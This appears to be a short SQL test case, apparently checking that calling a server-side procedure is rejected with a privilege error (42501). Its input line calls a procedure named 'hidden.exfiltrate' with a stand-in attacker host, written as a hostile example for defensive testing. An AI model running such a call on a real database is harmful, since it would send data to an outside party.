-- expect: 42501
-- why: CALL a server-side procedure
CALL hidden.exfiltrate('attacker.example')
